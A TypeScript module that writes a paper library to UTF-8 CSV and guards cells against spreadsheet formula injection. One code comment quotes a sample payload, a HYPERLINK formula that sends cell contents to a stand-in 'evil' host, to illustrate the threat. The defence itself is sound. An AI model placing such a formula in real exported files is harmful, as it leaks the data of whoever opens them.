import type { ExportPaper, ExportWriter } from './types';

export const CSV_COLUMNS = [
  'id', 'cite_key', 'title', 'authors', 'author_count', 'published', 'arxiv_id', 'arxiv_version', 'doi', 'status',
  'status_changed_at', 'read_at', 'upvotes', 'pdf', 'categories', 'links', 'digests', 'added_at', 'abstract',
] as const;

/**
 * A spreadsheet opens a cell that starts with = + - @ (or a tab or CR) as a formula, so a title
 * such as `=HYPERLINK("http://evil/?"&A1)` from a digest would run on opening. Such cells get a
 * leading apostrophe, the usual defence (OWASP "CSV injection"); readers strip it back with
 * `unguardCell`.
 */
function guardCell(s: string): string {
  return /^[=+\-@\t\r]/.test(s) ? `'${s}` : s;
}

export function unguardCell(s: string): string {
  return /^'[=+\-@\t\r]/.test(s) ? s.slice(1) : s;
}

function cell(v: string | number | null): string {
  if (v === null) return '';
  const s = guardCell(String(v));
  return /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

function row(p: ExportPaper): string {
  const values: (string | number | null)[] = [
    p.id, p.citeKey, p.title, p.authors ? p.authors.join('; ') : null, p.authorCount, p.published, p.arxivId, p.arxivVersion, p.doi,
    p.status, p.statusChangedAt, p.readAt, p.upvotes, p.pdf, p.categories ? p.categories.join('; ') : null, p.links.join(' '),
    p.digests.map((d) => d.name).join('; '), p.addedAt, p.abstract,
  ];
  return values.map(cell).join(',');
}

/**
 * RFC 4180 CSV with a header row and CRLF line ends, UTF-8 with a byte-order mark so that Excel
 * reads accents and CJK correctly. Lists are joined with "; " (links with spaces).
 */
export const writeCsv: ExportWriter = (papers) => {
  const parts = [`\uFEFF${CSV_COLUMNS.join(',')}\r\n`];
  for (const p of papers) parts.push(row(p), '\r\n');
  return parts.join('');
};
